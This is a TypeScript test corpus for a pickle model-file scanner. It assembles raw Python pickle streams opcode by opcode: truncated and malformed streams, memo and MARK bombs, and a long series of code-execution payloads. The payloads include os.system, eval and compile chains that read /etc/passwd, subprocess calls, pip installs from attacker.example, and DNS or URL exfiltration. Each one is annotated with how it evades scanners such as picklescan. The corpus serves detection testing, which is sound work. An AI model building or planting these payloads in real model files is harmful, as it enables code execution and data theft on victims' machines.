/**
 * Raw pickle corpus (CPython Lib/pickletools.py opcodes; Lib/pickle.py semantics): streams cut
 * inside every kind of opcode argument, MARK and memo bombs, deep nesting, and payloads through
 * the globals scanners have missed — each spelled opcode by opcode with ../builders/pickle.ts.
 * Files are saved as `model.pkl` (or `pytorch_model.bin`, the name a raw torch.save pickle of the
 * 0.x era carries); the loader reads them as bare pickles and never executes anything.
 */
import { concat } from '../builders/bytes.ts';
import { asm, systemCall, type PickleAsm } from '../builders/pickle.ts';
import type { CorpusEntry, NoticeExpectation } from '../types.ts';

const NAME = 'model.pkl';

const critical = (key: string): NoticeExpectation => ({ kind: 'unsafe-pickle-global', key, severity: 'critical' });

/** A payload entry: the global that would run, rated malicious-code. */
function payload(slug: string, build: () => PickleAsm, global: string, source: CorpusEntry['source'], note?: string, name = NAME): CorpusEntry {
  const e: CorpusEntry = {
    id: `pickle/${slug}`,
    format: 'pickle',
    name,
    build: () => build().bytesOut(),
    expect: { notice: critical(global), verdict: 'malicious-code' },
    source,
  };
  if (note !== undefined) e.note = note;
  return e;
}

/** A stream the scanner cannot finish: the loader reports torch_scan_incomplete naming the precise cause. */
function unreadable(slug: string, build: () => Uint8Array, cause: NonNullable<CorpusEntry['expect']['cause']>, offset: number | undefined, source: CorpusEntry['source'], note?: string): CorpusEntry {
  const e: CorpusEntry = {
    id: `pickle/${slug}`,
    format: 'pickle',
    name: NAME,
    build,
    expect: { code: 'torch_scan_incomplete', cause, ...(offset === undefined ? {} : { offset }) },
    source,
  };
  if (note !== undefined) e.note = note;
  return e;
}

export const PICKLE_ENTRIES: readonly CorpusEntry[] = [
  // ── unreadable streams ──────────────────────────────────────────────────────
  {
    id: 'pickle/empty-file',
    format: 'pickle',
    name: NAME,
    build: () => new Uint8Array(0),
    expect: { code: 'empty_file', offset: 0 },
    source: 'spec rule: Lib/pickle.py — an empty stream raises EOFError ("Ran out of input")',
  },
  unreadable('truncated-after-proto', () => asm().proto(2).bytesOut(), 'pickle_truncated', 2, 'spec rule: pickletools — every pickle ends with STOP; this one ends after PROTO'),
  unreadable('truncated-no-stop', () => asm().proto(2).emptyDict().put(0).str('w').int(1).setitem().bytesOut(), 'pickle_truncated', 11, 'spec rule: pickletools — a stream without STOP never returns a value (pickle.load raises EOFError)'),
  unreadable('truncated-inside-binunicode', () => asm().proto(2).binunicodeDeclared(100, Uint8Array.of(0x61, 0x62, 0x63)).stop().bytesOut(), 'pickle_truncated', 2, 'spec rule: pickletools BINUNICODE — a 4-byte length then that many UTF-8 bytes'),
  unreadable('truncated-inside-global-line', () => asm().raw('cos\nsyst').bytesOut(), 'pickle_truncated', 0, 'spec rule: pickletools GLOBAL — two newline-terminated lines'),
  unreadable('truncated-inside-bininit', () => asm().proto(2).raw('J', 1, 2).bytesOut(), 'pickle_truncated', 2, 'spec rule: pickletools BININT — a 4-byte signed integer'),
  unreadable('binunicode-length-4gib', () => asm().proto(2).binunicodeDeclared(0xffffffff, new Uint8Array(8)).stop().bytesOut(), 'pickle_truncated', 2, 'CVE-2018-20406 class: a declared 4 GiB string the unpickler would allocate before reading (checked against the bytes left instead)'),
  unreadable('binbytes8-length-2p63', () => asm().proto(4).raw(0x8e, Uint8Array.of(0, 0, 0, 0, 0, 0, 0, 0x80)).stop().bytesOut(), 'pickle_truncated', 2, 'spec rule: pickletools BINBYTES8 — an 8-byte length beyond int64 and the file'),
  unreadable('unknown-opcode', () => asm().proto(2).none().raw(0xff).stop().bytesOut(), 'pickle_unknown_opcode', 3, 'spec rule: pickletools opcode table — 0xff is no opcode of protocols 0-5'),
  unreadable('int-not-a-number', () => asm().raw('I0x1g\n.').bytesOut(), 'pickle_bad_argument', 0, 'spec rule: pickletools INT — a decimal (or 0x/0o/0b) integer line'),
  unreadable('mark-bomb', () => concat(asm().proto(2).bytesOut(), new Uint8Array(20_000).fill(0x28), asm().stop().bytesOut()), 'pickle_mark_too_deep', 2 + 10_000, 'spec rule: limits.ts MAX_PICKLE_MARK_DEPTH = 10,000 — a MARK bomb grows the mark stack one entry per byte', 'Fails at the 10,001st MARK, after 10 kB of a 20 kB file, in a few milliseconds.'),
  {
    ...unreadable(
      'payload-then-invalid-opcode',
      () => concat(systemCall('id').bytesOut(), Uint8Array.of(0xff)),
      'pickle_unknown_opcode',
      23,
      'scanner bypass: a payload followed by a broken opcode — CPython runs the REDUCE before it meets the bad byte, while scanners that give up on a parse error report nothing (modelscan/picklescan "exception after payload")',
    ),
    expect: { code: 'torch_scan_incomplete', cause: 'pickle_unknown_opcode', offset: 23, notice: critical('posix.system'), verdict: 'malicious-code' },
  },
  // ── memo and nesting bombs: bounded work, a finding, never clean ───────────────
  {
    id: 'pickle/memo-bomb-huge-index',
    format: 'pickle',
    name: NAME,
    build: () => asm().proto(2).none().put(0xfffffffe).stop().bytesOut(),
    expect: { notice: { kind: 'pickle-anomaly', key: 'memo-bomb', severity: 'high' }, verdict: 'inconclusive' },
    source: 'spec rule: Modules/_pickle.c _Unpickler_MemoPut — LONG_BINPUT 4294967294 grows the C unpickler\'s memo table to ~2^33 slots (tens of GB): a memo bomb in 8 bytes',
  },
  {
    id: 'pickle/stack-underflow',
    format: 'pickle',
    name: NAME,
    build: () => asm().proto(2).none().pop().pop().none().stop().bytesOut(),
    expect: { notice: { kind: 'pickle-anomaly', key: 'stack-underflow', severity: 'high' }, verdict: 'inconclusive' },
    source: 'spec rule: Lib/pickle.py — POP on an empty stack raises UnpicklingError ("unpickling stack underflow"); readers disagree on what follows',
  },
  {
    id: 'pickle/protocol-6',
    format: 'pickle',
    name: NAME,
    build: () => asm().proto(6).none().stop().bytesOut(),
    expect: { code: 'unknown_format', offset: 0 },
    source: 'spec rule: Lib/pickle.py — PROTO above HIGHEST_PROTOCOL (5) is refused ("unsupported pickle protocol")',
  },
  {
    id: 'pickle/ext1-registry-global',
    format: 'pickle',
    name: NAME,
    build: () => asm().proto(2).ext1(0x7f).tuple(0).reduce().stop().bytesOut(),
    expect: { notice: { kind: 'pickle-anomaly', key: 'ext-opcode', severity: 'high' }, verdict: 'inconclusive' },
    source: 'scanner bypass: EXT1 imports whatever the loading process registered in copyreg\'s extension registry — no module name appears in the file',
  },
  {
    id: 'pickle/stack-global-non-string',
    format: 'pickle',
    name: NAME,
    build: () => asm().proto(4).int(1).int(2).raw(0x93).tuple(0).reduce().stop().bytesOut(),
    expect: { notice: { kind: 'pickle-anomaly', key: 'bad-stack-global', severity: 'high' }, verdict: 'inconclusive' },
    source: 'spec rule: Lib/pickle.py load_stack_global — module and name must be str ("STACK_GLOBAL requires str")',
  },

  // ── payloads: the global that would run, wherever it hides ────────────────────
  payload('os-system-protocol-0', () => asm().global('os', 'system').mark().string0('id').tupleMark().reduce().stop(), 'os.system', 'scanner bypass: the classic protocol-0 payload (no PROTO, no 0x80 magic) — content sniffing by magic bytes misses it (CVE-2025-10155 class)'),
  payload('nt-system', () => asm().global('nt', 'system').mark().string0('calc.exe').tupleMark().reduce().stop(), 'nt.system', 'scanner bypass: os.system pickles as nt.system on Windows; denylists with only "os" and "posix" miss it'),
  payload(
    'posix-system-stack-global-memoized',
    () => asm().proto(4).frame(40).str('posix').memoize().str('system').memoize().pop().pop().get(0).get(1).raw(0x93).memoize().str('id').tuple(1).reduce().stop(),
    'posix.system',
    'scanner bypass: STACK_GLOBAL whose module and name come from memo GETs — scanners that only look at the two strings right before STACK_GLOBAL see BINGETs',
  ),
  payload(
    'getattr-import-chain',
    () =>
      asm()
        .global('builtins', 'getattr')
        .mark()
        .global('builtins', '__import__')
        .mark()
        .string0('os')
        .tupleMark()
        .reduce()
        .string0('system')
        .tupleMark()
        .reduce()
        .mark()
        .string0('id')
        .tupleMark()
        .reduce()
        .stop(),
    'builtins.getattr',
    'scanner bypass: getattr(__import__("os"), "system")("id") — "os" and "system" appear only as string data, never as a global',
  ),
  payload(
    'builtin-py2-eval',
    () => asm().global('__builtin__', 'eval').mark().string0('__import__(\\\'os\\\').system(\\\'id\\\')').tupleMark().reduce().stop(),
    '__builtin__.eval',
    'scanner bypass: Python 2 module name "__builtin__" — pickle.load maps it to builtins (Lib/_compat_pickle.py), denylists keyed on "builtins" miss it',
  ),
  payload(
    'builtin-globals-compile-apply-chain',
    () =>
      asm()
        .global('__builtin__', 'globals')
        .mark()
        .tupleMark()
        .reduce()
        .put0(100)
        .pop()
        .global('__builtin__', 'compile')
        .mark()
        .string0('fl=open("/etc/passwd");x=fl.read();')
        .string0('')
        .string0('exec')
        .tupleMark()
        .reduce()
        .put0(101)
        .pop()
        .global('__builtin__', 'eval')
        .mark()
        .raw('g101\ng100\n')
        .tupleMark()
        .reduce()
        .stop(),
    '__builtin__.compile',
    'scanner bypass: picklescan tests/data/malicious0.pkl — globals/compile/eval chained through the protocol-0 memo',
  ),
  payload('runpy-run-code', () => asm().global('runpy', '_run_code').mark().string0('import os;os.system("id")').emptyDict().tupleMark().reduce().stop(), 'runpy._run_code', 'scanner bypass: runpy._run_code executes source text (not on early picklescan denylists)'),
  payload(
    'asyncio-subprocess-transport',
    () =>
      asm()
        .proto(4)
        .frame(81)
        .str('asyncio.unix_events')
        .memoize()
        .str('_UnixSubprocessTransport._start')
        .memoize()
        .raw(0x93)
        .memoize()
        .mark()
        .emptyDict()
        .memoize()
        .str('whoami')
        .memoize()
        .raw(0x88)
        .none()
        .none()
        .none()
        .int(0)
        .tupleMark()
        .memoize()
        .reduce()
        .memoize()
        .stop(),
    'asyncio.unix_events._UnixSubprocessTransport._start',
    'scanner bypass: picklescan GHSA-jgw4-cr84-mqxg — a dotted STACK_GLOBAL name reaching a subprocess method with a dict as self (shell=True)',
  ),
  payload('pip-main', () => asm().global('pip', 'main').mark().mark().string0('install').string0('evil-package').raw('l').tupleMark().reduce().stop(), 'pip.main', 'scanner bypass: CVE-2025-1716 — pip.main installs (and runs setup code of) an attacker\'s package; missing from picklescan\'s denylist'),
  payload('pip-internal-main', () => asm().proto(4).stackGlobal('pip._internal', 'main').mark().str('install').str('--index-url').str('https://attacker.example/simple').str('pkg').raw('l').tuple(1).reduce().stop(), 'pip._internal.main', 'scanner bypass: CVE-2025-1716 class — the same through pip._internal.main and STACK_GLOBAL'),
  payload('subprocess-popen-inst', () => asm().mark().string0('/bin/sh').string0('-c').string0('id').raw('l').inst('subprocess', 'Popen').stop(), 'subprocess.Popen', 'scanner bypass: INST imports and calls in one opcode (protocol 0); scanners that only pair GLOBAL with REDUCE miss it'),
  payload('subprocess-check-output-obj', () => asm().mark().global('subprocess', 'check_output').mark().string0('id').raw('l').obj().stop(), 'subprocess.check_output', 'scanner bypass: OBJ calls the class at the MARK with the items after it (protocol 1), no REDUCE involved'),
  payload(
    'subprocess-popen-newobj-ex',
    () => asm().proto(4).stackGlobal('subprocess', 'Popen').memoize().str('id').tuple(1).emptyDict().str('shell').raw(0x88).setitem().newobjEx().stop(),
    'subprocess.Popen',
    'scanner bypass: NEWOBJ_EX calls cls.__new__(cls, *args, **kwargs) — a call opcode some scanners do not model',
  ),
  payload('torch-load-nested', () => asm().proto(2).global('torch', 'load').global('io', 'BytesIO').mark().raw('C', 3, 'xyz').tupleMark().reduce().tuple(1).reduce().stop(), 'torch.load', 'scanner bypass: a pickle that calls torch.load on inline bytes: the outer file looks like plain data, the inner one is never scanned'),
  payload(
    'torch-jit-exec-wrapper',
    () => asm().proto(2).global('torch.jit.unsupported_tensor_ops', 'execWrapper').mark().string0('import os; os.system("id")').emptyDict().emptyDict().tupleMark().reduce().stop(),
    'torch.jit.unsupported_tensor_ops.execWrapper',
    'scanner bypass: torch.jit.unsupported_tensor_ops.execWrapper is exec() under a torch name — torch-prefixed globals are allowlisted by naive scanners',
  ),
  payload('numpy-load-nested', () => asm().proto(2).global('numpy', 'load').mark().string0('/tmp/payload.npy').raw(0x88).tupleMark().reduce().stop(), 'numpy.load', 'scanner bypass: numpy.load(path, allow_pickle=True) unpickles a second file chosen by the first'),
  payload('marshal-loads-code', () => asm().proto(3).global('marshal', 'loads').bytes(Uint8Array.of(0xe3, 0, 0, 0, 0)).tuple(1).reduce().stop(), 'marshal.loads', 'scanner bypass: marshal.loads builds a code object that types.FunctionType can then run'),
  payload('operator-attrgetter', () => asm().proto(2).global('operator', 'attrgetter').str('system').tuple(1).reduce().stop(), 'operator.attrgetter', 'scanner bypass: operator.attrgetter/methodcaller reach attributes without builtins.getattr'),
  payload('ssl-server-certificate-dns', () => asm().proto(4).stackGlobal('ssl', 'get_server_certificate').str('x.dns-logger.invalid').int(443).tuple(2).tuple(1).reduce().stop(), 'ssl.get_server_certificate', 'scanner bypass: picklescan tests/data2/dns_exfiltration — a DNS lookup and TCP connection leak data without any command'),
  payload('webbrowser-open', () => asm().global('webbrowser', 'open').mark().string0('https://attacker.example/?k=secret').tupleMark().reduce().stop(), 'webbrowser.open', 'scanner bypass: webbrowser.open runs a browser (a command) with an attacker URL'),
  payload(
    'second-pickle-after-stop',
    () => asm().proto(2).emptyDict().stop().raw(systemCall('id').stop().bytesOut()),
    'posix.system',
    'scanner bypass: a benign pickle, STOP, then a second pickle — pickle.load reads one, a loader that calls load() twice runs the second; one-pickle scanners stop at the first STOP',
  ),
  payload('os-system-in-bin', () => asm().global('os', 'system').mark().string0('id').tupleMark().reduce().stop(), 'os.system', 'scanner bypass: CVE-2025-1889 class — a pickle under a non-pickle name (pytorch_model.bin) that extension-based scanners skip', undefined, 'pytorch_model.bin'),
];

